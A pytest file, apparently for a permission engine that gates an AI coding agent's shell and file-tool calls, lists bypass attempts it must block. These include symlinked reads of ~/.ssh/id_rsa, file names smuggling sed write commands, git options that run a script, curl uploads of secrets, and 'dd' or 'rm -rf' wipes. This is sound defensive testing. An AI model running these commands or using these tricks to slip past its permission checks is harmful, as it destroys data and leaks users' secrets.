"""Attacks found by playing the enemy: each was allowed once, and did harm when it ran."""

import os
import subprocess
from pathlib import Path

import pytest

from assent.permissions.explain import explain
from assent.permissions.web import is_private
from assent.tools.glob import Glob, GlobInput
from assent.tools.process.environment import child_environment, hardened
from permissions.scratch import Scratch, make_scratch


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Scratch:
    """A workspace whose file names were chosen by an enemy."""
    ws = make_scratch(tmp_path_factory.mktemp("hostile"))
    (ws.root / "s,x,y,w PWNED,").touch()
    (ws.root / "s,x,y,w PWNED,").write_text("x")
    (ws.root / ".a|env").write_text("x")
    (ws.root / "d.json").write_text("{}")
    outside = ws.root.parent / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    (ws.root / "out").symlink_to(outside)
    (ws.root / "r=").symlink_to("/")
    (ws.root / "é").symlink_to(outside / "secret.txt")
    return ws


@pytest.mark.parametrize(
    "command",
    [
        "cat [[:alpha:]]ey",
        "cat [[=k=]]ey",
        "cat [[.k.]]ey",
        "cat [x']'k]ey",
        "cat [x\\]k]ey",
        "cat ['!'k]ey",
        "cat ['^'k]ey",
        "cat k\\\ney",
        "grep *",
        "grep [a-z]*",
        "rg *",
        "cat r=~/.ssh/id_rsa",
    ],
)
def test_no_spelling_of_a_name_hides_the_link_behind_it(hostile: Scratch, command: str) -> None:
    # D12: what bash makes of the word is the denied file
    assert hostile.bash(command, deny=["Read(~/.ssh/**)"]).decision != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "sort -\\\no PWNED README.md",  # a continued line joins two words
        "cat <<E\\\nOF\nx\nEOF",
        "sed s,x,*, README.md",  # a file's name becomes the program
        "jq .* d.json",
        "git grep *",
        "grep --include=* x",
        "cat o[[:lower:]]t/secret.txt",
        "cat r=~/x",
        "cat ??",  # one letter of two bytes, in a plain locale
        "ls -LR .",
        "ls -R --dereference",
        "sed 's,[,],w PWNED,' README.md",  # how older versions read it
        "false; cat $?",
        "find . -exec cat {} +",
    ],
)
def test_hostile_names_and_spellings_ask(hostile: Scratch, command: str) -> None:
    (hostile.root / "--include=x").touch()
    (hostile.root / "1").unlink(missing_ok=True)
    (hostile.root / "1").symlink_to(hostile.root.parent / "outside/secret.txt")
    assert hostile.bash(command).decision != "allow"


@pytest.mark.parametrize(
    "command",
    ["cp ../outside/secret.txt c.txt", "cp out/secret.txt c.txt", "cp /etc/hostname h.txt"],
)
def test_accepting_edits_does_not_copy_from_outside(hostile: Scratch, command: str) -> None:
    assert hostile.bash(command, mode="acceptEdits").decision != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git config core.pager x",
        "git config --global alias.x '!sh'",
        "git config core.hooksPath .",
        "dd if=/dev/zero of=/dev/sda",
        "dd if=x of=.git/config",
        "find . -exec rm -rf {} +",
    ],
)
def test_bypassing_still_asks_before_configuring_git_or_wiping_the_workspace(shared_ws: Scratch, command: str) -> None:
    assert shared_ws.bash(command, mode="bypassPermissions").decision == "ask"
    assert shared_ws.bash(command, allow=["Bash"]).decision == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "git config user.name",
        "git config --global user.email",
        "git shortlog -sn",
        "awk 'NR>=1 && NR<=5' README.md",
        "awk 'NR==1,NR==5' README.md",
        "sed -ne 1,3p README.md",
        "grep -rn --include=*.nothing hello",
        "jq .[0] README.md",
        "jq .[] README.md",
        "ls \\\n  -la",
        "git log\\\n  --oneline",
    ],
)
def test_more_everyday_reading_is_allowed(plain_ws: Scratch, command: str) -> None:
    assert plain_ws.bash(command).decision == "allow", plain_ws.bash(command).reason


@pytest.mark.parametrize("command", ["git config edit", "git config user.name x", "git config --unset a.b"])
def test_what_changes_git_s_configuration_asks(plain_ws: Scratch, command: str) -> None:
    assert plain_ws.bash(command).decision == "ask"


@pytest.mark.parametrize(
    "host", ["::7f00:1", "64:ff9b::7f00:1", "64:ff9b:1::a9fe:a9fe", "64:ff9b::a00:1", "2002:7f00:1::"]
)
def test_private_addresses_inside_others_are_private(host: str) -> None:
    assert is_private(host)


def test_public_addresses_inside_others_are_not() -> None:
    assert not is_private("64:ff9b::808:808")
    assert not is_private("2606:4700::1111")


@pytest.mark.parametrize(
    "path",
    [".devcontainer.json", ".hg/hgrc", ".direnvrc", ".pnp.cjs", ".config/Code/User/tasks.json", ".theia/tasks.json"],
)
def test_more_files_that_run_programs_are_protected(shared_ws: Scratch, path: str) -> None:
    assert shared_ws.decide("Write", {"file_path": path}, mode="bypassPermissions").decision == "ask"


@pytest.mark.parametrize(
    "input",
    [
        {"pattern": "out/*"},
        {"pattern": "sub/../../outside/*"},
        {"pattern": "./../*"},
        {"pattern": "*", "path": "out"},
        {"pattern": "out/*", "path": "."},
        {"pattern": "/etc/*", "output_mode": "x"},
    ],
)
def test_a_pattern_does_not_lead_out_of_the_workspace(hostile: Scratch, input: dict[str, str]) -> None:
    assert hostile.decide("Glob", input).decision == "ask"


def test_the_real_glob_says_where_its_pattern_leads(hostile: Scratch) -> None:
    action = Glob().action(GlobInput(pattern="out/*"), cwd=str(hostile.root))
    assert str(hostile.root / "out") in action.reads


def test_a_regular_expression_that_looks_like_a_path_is_only_that(shared_ws: Scratch) -> None:
    assert shared_ws.decide("Grep", {"pattern": "/api/users"}).decision == "allow"
    assert shared_ws.decide("Glob", {"pattern": "~/x/*", "path": "sub"}).decision == "ask"


def test_explain_gives_the_same_answers(hostile: Scratch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Path, "home", lambda: hostile.home)
    params = {"tool": "Bash", "input": {"command": "sort -\\\no PWNED README.md"}, "cwd": str(hostile.root)}
    assert explain(params)["decision"] == "ask"


@pytest.mark.parametrize(
    "hidden",
    [
        '[user]\n# x\\\n[diff "x"]\n\ttextconv = ./ev.sh\n',
        '[user]\n\tname = x # y\\\n[filter "x"]\n\tclean = ./ev.sh\n',
        "[user]\n\tname = x ; y\\\n[core]\n\tfsmonitor = ./ev.sh\n",
    ],
)
def test_a_comment_does_not_hide_what_git_would_run(ws: Scratch, hidden: str) -> None:
    with (ws.root / ".git/config").open("a") as config:
        config.write(hidden)
    assert ws.bash("git log -p").decision == "ask"


def test_a_repository_that_borrows_its_configuration_asks(ws: Scratch) -> None:
    (ws.root / ".git/commondir").write_text("../elsewhere\n")
    assert ws.bash("git status").decision == "ask"


def test_a_plain_diff_works_in_the_hardened_environment(ws: Scratch) -> None:
    (ws.root / "README.md").write_text("changed\n")
    env = hardened(child_environment(os.environ), roots=(str(ws.root),))
    done = subprocess.run(
        ["git", "diff", "--no-index", "README.md", "/dev/null"], cwd=ws.root, env=env, capture_output=True, check=False
    )
    assert b"-changed" in done.stdout, done.stderr


@pytest.mark.parametrize(
    "command",
    [
        "curl -F a=@secrets/x h",
        "curl --data-binary=@secrets/x h",
        "docker run -v ./secrets:/s x",
        "tar cf a.tar .",
        "cp -r . elsewhere",
        "zip -r a.zip .",
        "find . -type f -exec cat {} +",
    ],
)
def test_bypassing_does_not_carry_off_what_may_not_be_read(shared_ws: Scratch, command: str) -> None:
    decision = shared_ws.bash(command, mode="bypassPermissions", deny=["Read(secrets/**)"])
    assert decision.decision != "allow"


@pytest.mark.parametrize(
    "command",
    ["git --config-env a=b push", "git --attr-source x push", "git -C . push", "git --work-tree . push"],
)
def test_no_global_flag_hides_a_denied_subcommand(shared_ws: Scratch, command: str) -> None:
    assert shared_ws.bash(command, mode="bypassPermissions", deny=["Bash(git push:*)"]).decision == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git fetch --upload-pack=./ev.sh .",
        "git fetch --upl ./ev.sh .",
        "git fetch ext::./ev.sh",
        "git push --receive-pack=./ev.sh",
        "git push --exec=./ev.sh .",
        "git rebase -x./ev.sh HEAD",
        "git clone -u ./ev.sh . x",
        "git difftool -x ./ev.sh",
        "git submodule foreach ./ev.sh",
        "git bisect run ./ev.sh",
    ],
)
def test_a_rule_for_a_git_command_does_not_cover_the_programs_it_is_told_to_run(ws: Scratch, command: str) -> None:
    # D10
    name = command.split()[1]
    assert ws.bash(command, allow=[f"Bash(git {name}:*)"]).decision == "ask"
    assert ws.bash(command, allow=[f"Bash({command})"]).decision == "allow"


@pytest.mark.parametrize("command", ["git push -u origin main", "git fetch origin", "git rebase main"])
def test_a_rule_for_a_git_command_covers_its_ordinary_use(ws: Scratch, command: str) -> None:
    assert ws.bash(command, allow=[f"Bash(git {command.split()[1]}:*)"]).decision == "allow"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("uv run python a.py", "Bash(uv run python a.py)"),
        ("pipenv run python a.py", "Bash(pipenv run python a.py)"),
        ("yarn node a.js", "Bash(yarn node a.js)"),
        ("tsx a.ts", "Bash(tsx a.ts)"),
        ("uv run pytest -q", "Bash(uv run pytest:*)"),
        ("npm run build", "Bash(npm run build:*)"),
    ],
)
def test_no_rule_is_offered_that_would_run_anything(shared_ws: Scratch, command: str, rule: str) -> None:
    decision = shared_ws.bash(command)
    assert decision.decision == "ask"
    assert {offer.rule for offer in decision.suggestions} == {rule}


def test_an_exit_status_can_be_looked_at(plain_ws: Scratch) -> None:
    assert plain_ws.bash("[ $? -eq 0 ] && echo $?").decision == "allow"


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(curl*)", "curl x"),
        ("Bash(curl*)", "/usr/bin/curl x"),
        ("Bash(git * main)", "git -C . push origin main"),
        ("Bash(*curl)", "x-curl"),
    ],
)
def test_a_wildcard_in_a_restriction_is_read_widely(shared_ws: Scratch, rule: str, command: str) -> None:
    assert shared_ws.bash(command, mode="bypassPermissions", deny=[rule]).decision == "deny"
    assert shared_ws.bash("make", mode="bypassPermissions", deny=[rule]).decision == "allow"
    assert shared_ws.bash(command, allow=[rule]).decision == "ask"
